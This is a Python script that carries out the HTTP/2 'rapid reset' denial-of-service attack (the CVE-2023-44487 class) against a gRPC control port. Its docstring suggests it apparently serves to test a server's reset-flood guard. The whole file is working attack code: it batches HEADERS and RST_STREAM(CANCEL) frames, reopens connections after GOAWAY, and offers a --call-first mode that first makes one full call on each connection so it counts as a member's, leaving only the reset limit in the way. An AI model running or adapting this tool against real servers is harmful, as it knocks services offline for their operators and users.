#!/usr/bin/env python3
"""HTTP/2 rapid reset (the CVE-2023-44487 class) against a gRPC control port.

Usage: epd_rapid_reset.py HOST:PORT STREAMS [--batch N] [--path P] [--call-first]

Opens TCP connections to HOST:PORT and, on each, sends the HTTP/2 client
preface, an empty SETTINGS, then HEADERS (a gRPC call's request headers,
HPACK literals never indexed: no header table state) followed at once by
RST_STREAM(CANCEL) for the same stream, BATCH pairs per write, until STREAMS
streams were opened in all.  When the server closes a connection (GOAWAY or
EOF, the guard's answer to a reset flood) the next one is opened, so the
burst is STREAMS streams however the server sheds it.  --call-first makes
one whole unary call (an empty message to --path) on each connection and
waits for its answer before the burst: against a server without a cluster
secret that makes the connection a member's, which only the reset limit
(--control-max-resets) bounds.  The server's frames
are read and dropped on a thread (its writes must never block on us).

Prints one line: streams=N conns=N goaways=N closed_by_server=N.
Exit 0 when every stream was sent; 1 when the port refused to connect
before that (the server is unreachable: the caller decides what it means).
"""
import socket
import struct
import sys
import threading

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x7
END_HEADERS, ACK = 0x4, 0x1
CANCEL = 0x8


def frame(ftype, flags, stream, payload=b""):
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags, stream & 0x7FFFFFFF) + payload


def literal(name, value):
    # literal header field never indexed, new name (RFC 7541 6.2.3); every
    # string here is shorter than 127 bytes: one length byte, no Huffman
    return bytes([0x10, len(name)]) + name + bytes([len(value)]) + value


def headers_block(path, authority):
    return b"".join(literal(n, v) for n, v in [
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", path),
        (b":authority", authority), (b"content-type", b"application/grpc"),
        (b"te", b"trailers")])


class Reader(threading.Thread):
    """Reads the server's frames; answers its SETTINGS; notes a GOAWAY."""

    def __init__(self, sock):
        super().__init__(daemon=True)
        self.sock = sock
        self.answered = threading.Event()  # stream 1's END_STREAM from the server
        self.goaway = False
        self.closed = False
        self.lock = threading.Lock()

    def run(self):
        buf = b""
        try:
            while True:
                data = self.sock.recv(65536)
                if not data:
                    break
                buf += data
                while len(buf) >= 9:
                    n = (buf[0] << 16) | (buf[1] << 8) | buf[2]
                    if len(buf) < 9 + n:
                        break
                    ftype, flags = buf[3], buf[4]
                    sid = struct.unpack(">I", buf[5:9])[0] & 0x7FFFFFFF
                    buf = buf[9 + n:]
                    if ftype == SETTINGS and not flags & ACK:
                        with self.lock:
                            self.sock.sendall(frame(SETTINGS, ACK, 0))
                    elif ftype == GOAWAY:
                        self.goaway = True
                    elif ftype in (DATA, HEADERS) and flags & 0x1 and sid == 1:
                        self.answered.set()
        except OSError:
            pass
        self.closed = True
        self.answered.set()


def main():
    if len(sys.argv) < 3:
        sys.stderr.write(__doc__)
        return 2
    host, port = sys.argv[1].rsplit(":", 1)
    total = int(sys.argv[2])
    batch, path, call_first = 500, b"/epd.Control/Health", False
    args = sys.argv[3:]
    while args:
        if args[0] == "--call-first":
            call_first = True
            args = args[1:]
            continue
        if args[0] == "--batch":
            batch = int(args[1])
        elif args[0] == "--path":
            path = args[1].encode()
        else:
            sys.stderr.write("unknown argument %s\n" % args[0])
            return 2
        args = args[2:]
    block = headers_block(path, sys.argv[1].encode())
    sent = conns = goaways = closed = 0
    while sent < total:
        try:
            sock = socket.create_connection((host, int(port)), timeout=30)
        except OSError as e:
            print("streams=%d conns=%d goaways=%d closed_by_server=%d connect_error=%s"
                  % (sent, conns, goaways, closed, e))
            return 1
        conns += 1
        reader = Reader(sock)
        reader.start()
        sid = 1
        try:
            with reader.lock:
                sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
            if call_first:
                # an empty message: compressed flag 0, length 0; END_STREAM
                with reader.lock:
                    sock.sendall(frame(HEADERS, END_HEADERS, 1, block) +
                                 frame(DATA, 0x1, 1, b"\0\0\0\0\0"))
                if not reader.answered.wait(60) or reader.closed:
                    print("no answer to the first call")
                    return 1
                sid = 3
            while sent < total and sid < 0x7FFFFFF0:
                n = min(batch, total - sent)
                out = bytearray()
                for _ in range(n):
                    out += frame(HEADERS, END_HEADERS, sid, block)
                    out += frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL))
                    sid += 2
                with reader.lock:
                    sock.sendall(out)
                sent += n
        except OSError:
            closed += 1
        try:
            sock.shutdown(socket.SHUT_WR)
        except OSError:
            pass
        reader.join(timeout=30)
        goaways += reader.goaway
        sock.close()
    print("streams=%d conns=%d goaways=%d closed_by_server=%d" % (sent, conns, goaways, closed))
    return 0


if __name__ == "__main__":
    sys.exit(main())
